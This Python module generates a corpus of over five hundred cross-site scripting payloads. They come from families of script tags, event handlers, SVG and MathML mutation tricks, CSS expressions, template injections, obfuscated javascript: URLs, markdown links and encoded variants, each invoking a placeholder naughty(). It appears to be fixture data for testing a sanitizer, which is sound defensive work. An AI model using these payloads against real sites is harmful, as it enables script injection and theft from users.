"""More than five hundred ways to make a page run something, each calling naughty(), put together from families."""

import base64
import html
import urllib.parse

CALL = "naughty()"

EVENTS = [
    "onload", "onerror", "onclick", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onbegin", "onpageshow",
]
TAGS = [
    "<script>{c}</script>", "<ScRiPt>{c}</sCrIpT>", "<script\n>{c}</script\n>", "<script/x>{c}//",
    "<<script>{c}//<</script>", "<script src=data:,{c}></script>", "<script type=module>{c}</script>", "<script>{c}",
    "<script nonce=x>{c}</script>", "<iframe src=javascript:{c}>", "<iframe srcdoc='<script>parent.{c}</script>'>",
    "<object data=javascript:{c}>", "<embed src=javascript:{c}>", "<form action=javascript:{c}><button autofocus>x",
    "<button formaction=javascript:{c}>x", "<base href=javascript:/a/-{c}//>",
    "<meta http-equiv=refresh content='0;url=javascript:{c}'>", "<link rel=stylesheet href=data:,*{{}}>",
    "<style>@import 'javascript:{c}'</style>", "<a href=javascript:{c}>x</a>",
    "<isindex action=javascript:{c} type=image>", "<input autofocus onfocus={c}>",
    "<details open ontoggle={c}>x</details>", "<marquee onstart={c}>x", "<body onload={c}>",
    "<template><script>{c}</script></template>", "<noscript><img title=\"</noscript><img src=x onerror={c}>\">",
    "<frameset onload={c}>", "<portal src=javascript:{c}>", "<dialog open onclose={c}>",
]
ELEMENTS = [
    "img src=x", "svg", "video src=x", "audio src=x", "input autofocus", "body", "details open", "math",
    "x tabindex=0",
]
SHAPES = [
    "<{e} {v}={c}>", "<{e} {v}=\"{c}\">", "<{e}/{v}='{c}'/>", "\"><{e} {v}={c}>", "'><{e} {v}={c}>",
]
FOREIGN = [
    "<svg><script>{c}</script></svg>", "<svg><script>naughty&#40;)</script>", "<svg/onload={c}//",
    "<svg><a xlink:href=javascript:{c}><text y=9>x</text></a></svg>",
    "<svg><animate onbegin={c} attributeName=x dur=1s>", "<svg><set onbegin={c} attributeName=x>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={c}/>#x'>",
    "<svg><foreignObject><iframe srcdoc='<script>{c}</script>'>", "<svg><style><img src=x onerror={c}></style>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror={c}>'>",
    "<math href=javascript:{c}>x</math>", "<math><maction actiontype=statusline xlink:href=javascript:{c}>x",
    "<svg><title><style><img src=x onerror={c}>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror={c} src=x>'>",
    "<svg></p><style><a id='</style><img src=x onerror={c}>'>", "<svg><desc><img src=x onerror={c}>",
]
MUTATIONS = [
    "<noembed><img title='</noembed><img src=x onerror={c}>'>", "<xmp><p title='</xmp><img src=x onerror={c}>'>",
    "<textarea><img title='</textarea><img src=x onerror={c}>'>",
    "<title><img title='</title><img src=x onerror={c}>'>", "<listing>&lt;img onerror={c} src=x&gt;</listing>",
    "<!--><img src=x onerror={c}>-->", "<!-- --!><img src=x onerror={c}> -->", "<![CDATA[><img src=x onerror={c}>]]>",
    "<?x ?><img src=x onerror={c}>", "<p style='x:`'><img src=x onerror={c}>", "<img alt='``onerror={c}' src=x>",
    "<select><script>{c}</script></select>", "<table><td><script>{c}</script>", "<a><b><c><script>{c}",
]
STYLES = [
    "<p style=background:url(javascript:{c})>", "<p style=x:expression({c})>", "<p style=behavior:url(#x)>",
    "<style>*{{-moz-binding:url(data:,{c})}}</style>", "\" style=\"x:expression({c})",
    "<style>@keyframes x{{}}</style><x style=animation-name:x onanimationstart={c}>", "</style><script>{c}</script>",
    "*/</style><img src=x onerror={c}>",
]
TEMPLATES = [
    "{{{{constructor.constructor('{c}')()}}}}", "${{{c}}}", "<%= {c} %>", "#{{{c}}}", "[[{c}]]", "{{{{= {c} }}}}",
    "`${{{c}}}`",
]
SCHEMES = [
    "javascript:{c}", "JaVaScRiPt:{c}", " javascript:{c}", "java\tscript:{c}", "javascript&colon;{c}",
    "java&Tab;script:{c}", "&#106;avascript:{c}", "&#x6A;avascript:{c}", "javascript://a/%0A{c}", "vbscript:{c}",
    "data:text/html,<script>{c}</script>", "feed:javascript:{c}", "view-source:javascript:{c}", "\\javascript:{c}",
    "javascript\\:{c}", "http:javascript:{c}",
]
LINKS = [
    "[x]({u})", "[x](<{u}>)", "![x]({u})", "<{u}>", "[x][y]\n\n[y]: {u}", "[![x]({u})]({u})", "[x](/a '{u}')",
    "[x](\"{u}\")",
]
BREAKS = [
    "\"", "'", "`", "\"'", "</a>", "</p></main>", "</textarea>", "</title>", "</option></select>", "-->", "]]>",
    "\\\"", "\u2028", "\"\u0301", "</script>", "*/", "//",
]
AFTER = [
    "<img src=x onerror={c}>", "<script>{c}</script>", " onmouseover={c} x=", " autofocus onfocus={c} x=",
    "><svg onload={c}>",
]


def _made() -> list[str]:
    plain = [shape.format(c=CALL) for shape in TAGS + FOREIGN + MUTATIONS + STYLES + TEMPLATES]
    events = [shape.format(e=e, v=v, c=CALL) for i, e in enumerate(ELEMENTS) for j, v in enumerate(EVENTS)
              for shape in SHAPES[(i + j) % 2 :: 2]]
    links = [link.format(u=scheme.format(c=CALL)) for scheme in SCHEMES for link in LINKS]
    breaks = [end + after.format(c=CALL) for end in BREAKS for after in AFTER]
    some = plain[:20]
    encoded = [html.escape(one) for one in some] + [urllib.parse.quote(one) for one in some]
    packed = ["[x](data:text/html;base64," + base64.b64encode(one.encode()).decode() + ")" for one in some]
    wide = [one.replace("<", "＜").replace(">", "＞") for one in some[:5]]
    wide += [one.replace("<", "<\u0301") for one in some[:5]]
    return list(dict.fromkeys(plain + events + links + breaks + encoded + packed + wide))


ALL = _made()
